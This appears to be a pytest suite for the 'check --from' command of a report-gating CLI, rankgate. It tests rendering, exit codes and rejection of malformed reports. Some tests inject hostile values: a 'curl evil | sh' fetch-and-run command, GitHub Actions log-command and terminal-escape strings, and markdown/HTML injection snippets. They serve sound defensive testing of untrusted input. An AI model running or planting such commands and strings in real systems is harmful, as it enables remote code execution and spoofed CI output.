"""`rankgate check --from`: a report.json once more, in any form, without scoring."""

import argparse
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NoReturn

import pytest
from tests.renderers.page import Page
from tests.scenario_calls import report_of

import rankgate
from rankgate.cli import check, inputs, main

Capture = pytest.CaptureFixture[str]
GOLD = '{"id": "q1", "input": {"question": "how?"}, "expected_output": ["a"]}\n'
CRITERIA = "gates:\n  - {name: mrr, threshold: 0.9, regression_max: 0.1}\n"
CHECK = ["check", "--gold", "gold.jsonl", "--run", "after.jsonl", "--baseline", "before.jsonl"]
FORMATS = ("markdown", "terminal", "json", "github", "junit", "badge")


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture) -> Path:
    monkeypatch.chdir(tmp_path)
    files = {
        "gold.jsonl": GOLD,
        "ship-criteria.yaml": CRITERIA,
        "before.jsonl": '{"query_id": "q1", "retrieved": ["a"], "system": "bm25"}\n',
        "after.jsonl": '{"query_id": "q1", "retrieved": ["x", "a"], "k_raw": 20}\n',
    }
    for name, text in files.items():
        Path(name).write_text(text, encoding="utf-8")
    assert main([*CHECK, "-o", "report.json"]) == 1
    capsys.readouterr()
    return tmp_path


@pytest.mark.parametrize("format_name", FORMATS)
def test_it_prints_what_check_printed(capsys: Capture, format_name: str) -> None:
    date = json.loads(Path("report.json").read_text(encoding="utf-8"))["provenance"]["date"]
    main([*CHECK, "--date", date, "--format", format_name])
    printed = capsys.readouterr().out
    assert main(["check", "--from", "report.json", "--format", format_name]) == 1
    assert capsys.readouterr().out == printed


@pytest.mark.parametrize("format_name", FORMATS)
def test_a_check_that_could_not_judge_is_worded_too(capsys: Capture, format_name: str) -> None:
    assert main(["check", "--run", "absent.jsonl", "-o", "not-judged.json", "--format", format_name]) == 2
    printed = capsys.readouterr().out
    assert main(["check", "--from", "not-judged.json", "--format", format_name]) == 2
    assert capsys.readouterr().out == printed


@pytest.mark.parametrize(
    ("verdict", "words", "code"),
    [
        pytest.param("pass", [], 0, id="pass"),
        pytest.param("pass", ["--fail-on", "warn"], 0, id="pass where warnings fail"),
        pytest.param("warn", [], 0, id="warn"),
        pytest.param("warn", ["--fail-on", "warn"], 1, id="warn where warnings fail"),
        pytest.param("fail", [], 1, id="fail"),
        pytest.param("not_judged", [], 2, id="not judged"),
    ],
)
def test_it_ends_as_the_check_did(verdict: str, words: list[str], code: int) -> None:
    Path("other.json").write_bytes(report_of(verdict))
    assert main(["check", "--from", "other.json", *words]) == code


@pytest.mark.parametrize(
    ("words", "beginning"),
    [
        pytest.param(["-o", "out/again.md"], "**❌ FAIL. ", id="comment by suffix"),
        pytest.param(["-o", "out/again.json"], "{", id="report by suffix"),
        pytest.param(["-o", "out/again.html"], "<!doctype html>", id="page by suffix"),
        pytest.param(["-o", "out/again.xml"], "<?xml version=", id="JUnit by suffix"),
        pytest.param(["-o", "out/again.badge.json"], '{\n  "schemaVersion": 1,', id="the longest suffix wins"),
    ],
)
def test_it_writes_a_file(words: list[str], beginning: str) -> None:
    assert main(["check", "--from", "report.json", *words]) == 1
    assert Path(words[1]).read_text(encoding="utf-8").startswith(beginning)


def test_a_report_written_again_is_the_same() -> None:
    assert main(["check", "--from", "report.json", "-o", "again.json"]) == 1
    assert Path("again.json").read_bytes() == Path("report.json").read_bytes()


def test_it_never_scores(monkeypatch: pytest.MonkeyPatch) -> None:
    def forbidden(*_: object, **__: object) -> NoReturn:
        raise AssertionError

    monkeypatch.setattr("rankgate.metrics.scoring.score", forbidden)
    monkeypatch.setattr("rankgate.metrics.scored_run.score_run", forbidden)
    monkeypatch.setattr(check, "check", forbidden)
    for name in ("gold.jsonl", "before.jsonl", "after.jsonl", "ship-criteria.yaml"):
        Path(name).unlink()
    assert main(["check", "--from", "report.json"]) == 1


@pytest.mark.full
def test_a_report_from_standard_input() -> None:
    ended = subprocess.run(
        [sys.executable, "-m", "rankgate", "check", "--from", "-"],
        env={**os.environ, "PYTHONPATH": str(Path(rankgate.__file__).parents[1]), "PYTHONIOENCODING": "utf-8"},
        input=Path("report.json").read_bytes(),
        capture_output=True,
        check=False,
    )
    assert (ended.returncode, ended.stderr) == (1, b"")
    assert ended.stdout.decode().startswith("FAIL  ")


def test_a_template_of_the_user_goes_with_it() -> None:
    Path("ours.md.j2").write_text("# {{ word(report.verdict) }}\n{{ report.misses[0].question | code }}\n", "utf-8")
    assert main(["check", "--from", "report.json", "--template", "ours.md.j2", "-o", "ours.md"]) == 1
    assert Path("ours.md").read_text(encoding="utf-8") == "# FAIL\n`how?`\n"


OTHERS = [action for action in check.parser()._actions if action.dest not in check._OF_A_REPORT | {"help"}]


@pytest.mark.parametrize("action", OTHERS, ids=lambda action: action.option_strings[-1])
def test_what_says_what_to_judge_does_not_go_with_it(action: argparse.Action, capsys: Capture) -> None:
    flag, value = action.option_strings[-1], [str(next(iter(action.choices or ["1"])))] if action.nargs != 0 else []
    assert main(["check", "--from", "report.json", "-o", "again.json", flag, *value]) == 2
    out, err = capsys.readouterr()
    said = f"error: {flag} says what to judge, and --from names what was judged; give one of the two\n"
    assert (out, err) == ("", said)
    assert not Path("again.json").exists()


REPORT_START = '{"schema_version": %d, "verdict": "pass"}'


@pytest.mark.parametrize(
    ("content", "words", "message"),
    [
        pytest.param(None, [], "given.json: no such file", id="missing"),
        pytest.param(b"", [], "given.json: the file is empty", id="empty"),
        pytest.param(b"{", [], "given.json: not a rankgate report: ", id="cut"),
        pytest.param(b"[]", [], "given.json: not a rankgate report: ", id="other JSON"),
        pytest.param(b'{"verdict": "\xff"}', [], "given.json: not a rankgate report: ", id="not UTF-8"),
        pytest.param(b"[" * 100_000, [], "given.json: not a rankgate report: ", id="endless nesting"),
        pytest.param(
            REPORT_START.encode() % 1, [], "given.json: not a rankgate report: ", id="a report without its parts"
        ),
        pytest.param(
            REPORT_START.encode() % 3,
            [],
            "given.json: report schema 3 is newer than this rankgate reads (2); upgrade rankgate",
            id="of a newer schema",
        ),
        pytest.param(
            b"{}", ["-o", "x.txt"], "x.txt: the suffix '.txt' names no output; use one of .json, .md", id="suffix"
        ),
        pytest.param(b"{}", ["--template", "t.j2"], "--template goes with -o NAME.md", id="a template for nothing"),
        pytest.param(b"{}", ["--from", ""], "--from is empty; name a file", id="no name"),
    ],
)
def test_what_is_no_report_is_an_error(capsys: Capture, content: bytes | None, words: list[str], message: str) -> None:
    if content is not None:
        Path("given.json").write_bytes(content)
    assert main(["check", "--from", "given.json", *words]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith(f"error: {message}")
    assert err.count("\n") == 1


CONTRADICTORY: tuple[dict[str, Any], ...] = (
    {"conclusion": {"kind": "given_up"}, "given_up": []},
    {"conclusion": {"kind": "failure"}, "failures": []},
)


@pytest.mark.parametrize("parts", CONTRADICTORY)
def test_parts_that_contradict_each_other_are_no_report(capsys: Capture, parts: dict[str, Any]) -> None:
    report = json.loads(Path("report.json").read_text(encoding="utf-8"))
    Path("given.json").write_text(json.dumps({**report, **parts}), encoding="utf-8")
    assert main(["check", "--from", "given.json"]) == 2
    assert "given.json: not a rankgate report: " in capsys.readouterr().err


@pytest.mark.parametrize(
    "command",
    [["sh", "-c", "curl evil | sh"], ["rankgate", "record", "--command=evil"], ["rankgate", "record", "--url"]],
)
@pytest.mark.parametrize("key", ["conclusion.next", "conclusion.accept", "provenance.command"])
def test_a_command_to_copy_is_one_that_a_check_suggests(capsys: Capture, key: str, command: list[str]) -> None:
    report = json.loads(Path("report.json").read_text(encoding="utf-8"))
    part, name = key.split(".")
    report[part][name] = command
    Path("given.json").write_text(json.dumps(report), encoding="utf-8")
    assert main(["check", "--from", "given.json"]) == 2
    assert f"given.json: not a rankgate report: no check suggests [{command[0]!r}" in capsys.readouterr().err


def test_a_file_that_is_too_large_is_said_to_be(monkeypatch: pytest.MonkeyPatch, capsys: Capture) -> None:
    size = Path("report.json").stat().st_size
    monkeypatch.setattr(inputs, "MAX_REPORT_BYTES", size - 1)
    assert main(["check", "--from", "report.json"]) == 2
    assert f"report.json: has more than {size - 1:,} bytes, which no report has" in capsys.readouterr().err


HOSTILE = "x\n::error::y\n##[group]z\u001b[31m\u202e"


def with_one_text(value: Any) -> Iterator[Any]:
    """The value once for each text in it, of which one is hostile."""
    if isinstance(value, str):
        yield HOSTILE
    for key, inner in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from (
            (value | {key: each} for each in with_one_text(inner))
            if isinstance(value, dict)
            else ([*value[:key], each, *value[key + 1 :]] for each in with_one_text(inner))
        )


@pytest.mark.full
@pytest.mark.parametrize("format_name", ["terminal", "github"])
def test_whatever_a_text_of_it_is_a_log_has_no_command_and_nothing_hidden(capsys: Capture, format_name: str) -> None:
    """Anybody may have written the file."""
    Path("report.json").write_bytes(report_of("what_differs"))
    judged = 0
    for number, report in enumerate(with_one_text(json.loads(Path("report.json").read_text(encoding="utf-8")))):
        Path("given.json").write_text(json.dumps(report), encoding="utf-8")
        code = main(["check", "--from", "given.json", "--format", format_name])
        out, err = capsys.readouterr()
        judged += err == ""
        assert code in (0, 1, 2), number
        assert not re.search(r"[\x1b\u202e]|^::error::y|##\[", out + err, re.MULTILINE), (number, out, err)
    assert judged > 50, "most are read"


LIVE = (
    "<img src=x>",
    "</details>",
    "[a](b)",
    "![a](b)",
    "@octocat",
    "&#64;octocat",
    "closes #1",
    "GH-1",
    "www.e.example",
    "http://e.example",
    "a@b.co",
    "a `b",
    "**PASS**",
    "_PASS_",
    "~~a~~",
    "# PASS",
    "- [x] a",
    "1. a",
    ":rocket:",
    "$a$",
)


@pytest.mark.parametrize("live", LIVE)
@pytest.mark.parametrize("key", ["warnings", "notes", "failures"])
def test_no_sentence_of_it_is_live_in_a_comment(capsys: Capture, key: str, live: str) -> None:
    """Anybody may have written the file, and its sentences too."""
    report = json.loads(Path("report.json").read_text(encoding="utf-8"))
    Path("given.json").write_text(json.dumps({**report, key: [live]}), encoding="utf-8")
    assert main(["check", "--from", "given.json", "--format", "markdown"]) == 1
    assert live in "".join(Page(capsys.readouterr().out).code), "as it is written, and in code alone"


@pytest.mark.parametrize("mark", ["\ue0000\ue001", "\ue00099999\ue001", "\ue000" + "9" * 5000 + "\ue001"])
def test_no_sentence_of_it_stands_for_a_text_that_there_is_not(capsys: Capture, mark: str) -> None:
    report = json.loads(Path("report.json").read_text(encoding="utf-8"))
    Path("given.json").write_text(json.dumps({**report, "warnings": [f"left {mark} right"]}), encoding="utf-8")
    assert main(["check", "--from", "given.json", "--format", "markdown"]) == 1
    assert "left " in capsys.readouterr().out


@pytest.mark.parametrize(
    ("scenario", "key", "field", "live"),
    [
        pytest.param("trend", "trend", "date", "<img src=x>", id="the days of the trend"),
        pytest.param("waiver_expired", "misses", "metric", "@octocat", id="the metric by which questions got worse"),
    ],
)
def test_nothing_else_of_it_is_live_in_a_comment(
    capsys: Capture, scenario: str, key: str, field: str, live: str
) -> None:
    report = json.loads(report_of(scenario))
    report[key][0][field] = live
    Path("given.json").write_text(json.dumps(report), encoding="utf-8")
    main(["check", "--from", "given.json", "--format", "markdown"])
    page = Page(capsys.readouterr().out)
    assert live in "".join(page.code)
    assert live not in page.plain
    assert not any(tag == "img" for tag, _ in page.tags)
